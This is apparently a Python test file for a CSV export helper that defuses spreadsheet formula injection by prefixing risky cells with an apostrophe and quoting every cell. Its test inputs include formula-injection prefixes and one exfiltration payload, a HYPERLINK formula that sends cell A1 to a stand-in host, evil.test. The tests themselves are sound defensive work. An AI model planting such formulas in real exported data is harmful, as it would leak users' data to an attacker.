import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trustbook.lib.csv_cells import inert, table


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\N{NO-BREAK SPACE}=1",
        "\N{ZERO WIDTH NO-BREAK SPACE}=1",
        "\0=1",
        "＝1",
        '=HYPERLINK("https://evil.test/?"&A1)',
    ],
)
def test_what_would_begin_a_formula_stands_after_an_apostrophe(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", " ", "Mona B.", "3 answers", "a=b", "1-2", "'", "2026-11-24"])
def test_any_other_cell_stands_as_it_is(cell):
    assert inert(cell) == cell


def test_a_table_is_utf8_with_a_mark_and_every_cell_quoted():
    assert table([["Client", "Due"], ["Zoë; B.", '=1,"2"']]) == (
        b"\xef\xbb\xbf" + '"Client","Due"\r\n"Zoë; B.","\'=1,""2"""\r\n'.encode()
    )


def test_an_empty_table_is_a_mark_alone():
    assert table([]) == b"\xef\xbb\xbf"


# Not surrogates: no text that came in as UTF-8 holds one.
cells = st.text(st.characters(exclude_categories=["Cs"]))


@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=4))
def test_a_reader_finds_the_same_cells_and_none_begins_a_formula(rows):
    text = table(rows).decode("utf-8-sig")

    found = list(csv.reader(io.StringIO(text, newline="")))

    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not [c for row in found for c in row if c.strip()[:1] in tuple("=+-@")]
